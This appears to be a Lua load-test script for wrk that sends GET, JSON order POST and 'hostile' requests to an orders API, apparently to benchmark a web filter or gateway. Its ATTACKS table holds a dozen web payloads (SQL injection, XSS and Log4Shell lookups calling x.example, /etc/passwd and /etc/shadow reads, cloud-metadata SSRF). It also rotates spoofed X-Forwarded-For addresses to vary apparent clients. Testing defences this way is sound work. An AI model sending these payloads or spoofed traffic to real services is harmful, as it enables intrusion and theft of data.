-- The loads, for wrk: `get` has four parameters, a bearer token and two cookies; `post` sends a JSON order of 1,079 bytes
-- with 12 items; `hostile` is the former with an attack in a parameter, in turn one of a dozen. They come from many clients
-- in turn, each with an address in X-Forwarded-For, a token and a session of its own: one client alone would be a flood, and
-- whoever judges by behaviour would look at nothing else. All requests are built before the first is sent, so that wrk's own
-- work stays small. Further arguments: how many clients, and the mean pause of each connection between an answer and its
-- next request, in milliseconds.

local ATTACKS = {
  "1%27%20UNION%20SELECT%20login,password%20FROM%20users--%20", "%3Cscript%3Efetch(%27//x.example%27)%3C/script%3E",
  "..%2f..%2f..%2f..%2fetc%2fpasswd", "x;cat%20/etc/shadow", "%24%7Bjndi:ldap://x.example/a%7D", "%7B%7B7*7%7D%7D",
  "*)(uid=*))(|(uid=*", "http://169.254.169.254/latest/meta-data/", "a%0d%0aSet-Cookie:%20a=b", "%3C!--%23exec%20cmd=%22ls%22--%3E",
  "%27%20or%20count(/child::node())=1%20or%20%27a%27=%27b", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
}

local token = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"
  .. ".eyJzdWIiOiI0MjE3IiwibmFtZSI6IkdyZXRhIExpbmQiLCJzY29wZSI6Im9yZGVyczpyZWFkIiwiaWF0IjoxNzYwMDAwMDAwLCJleHAiOjE5NjAwMDAwMDB9"

-- So many characters, the same ones for the same client at every run.
local function random(alphabet, length)
  local out = {}
  for i = 1, length do
    local at = math.random(#alphabet)
    out[i] = alphabet:sub(at, at)
  end
  return table.concat(out)
end

local function order()
  local names = { "Desk lamp", "Oak shelf", "Wool rug", "Tea kettle", "Notebook", "Wall clock",
    "Linen sheet", "Bread knife", "Glass jar", "Rain coat", "Bike light", "Garden hose" }
  local items = {}
  for i, name in ipairs(names) do
    items[i] = string.format('{"sku":"SKU-%05d","name":"%s","quantity":%d,"price":%d.%02d}',
      10000 + i * 37, name, i % 4 + 1, i * 7 + 3, i * 13 % 100)
  end
  local head = '{"customer":4217,"currency":"EUR","delivery":{"street":"12 Harbour Road","city":"Bergen"},"items":['
    .. table.concat(items, ",") .. '],"note":"'
  local note = "Please leave the parcel with the neighbour on the left if nobody answers the door before noon. "
  local room = 1079 - #head - 2
  return head .. string.rep(note, math.ceil(room / #note)):sub(1, room) .. '"}'
end

local requests, next_one, hostile = {}, 0, false

local function build(clients, cookies)
  math.randomseed(1)
  local base64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
  for i = 1, clients do
    wrk.headers["X-Forwarded-For"] = string.format("10.%d.%d.%d", i % 199, math.floor(i / 199) % 251, i % 251)
    wrk.headers["Authorization"] = "Bearer " .. token .. "." .. random(base64, 43)
    if cookies then
      wrk.headers["Cookie"] = "session=" .. random("0123456789abcdef", 16) .. "; theme=dark"
    end
    requests[i] = wrk.format()
    if hostile then
      requests[i] = wrk.format(nil, wrk.path .. "&q=" .. ATTACKS[i % #ATTACKS + 1])
    end
  end
end

function request()
  next_one = next_one % #requests + 1
  return requests[next_one]
end

function init(arguments)
  wrk.headers["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
  wrk.headers["Accept"] = "application/json"
  if arguments[1] == "post" then
    wrk.method = "POST"
    wrk.path = "/api/orders"
    wrk.headers["Content-Type"] = "application/json"
    wrk.body = order()
    assert(#wrk.body == 1079, "the order has " .. #wrk.body .. " bytes")
  else
    wrk.path = "/api/orders?customer=4217&status=open&sort=-created&page=2"
  end
  hostile = arguments[1] == "hostile"
  build(tonumber(arguments[2]), arguments[1] ~= "post")
  local pause = tonumber(arguments[3])
  if pause then
    -- A global, and only where it is wanted: wrk waits between all requests once there is one.
    delay = function() return math.random(1, 2 * pause - 1) end
  end
end

function done(summary, latency)
  io.write(string.format(
    '\nRESULT {"requests":%d,"duration_us":%d,"p50_us":%.0f,"p99_us":%.0f,"refused":%d,"broken":%d}\n',
    summary.requests, summary.duration, latency:percentile(50), latency:percentile(99), summary.errors.status,
    summary.errors.connect + summary.errors.read + summary.errors.write + summary.errors.timeout))
end
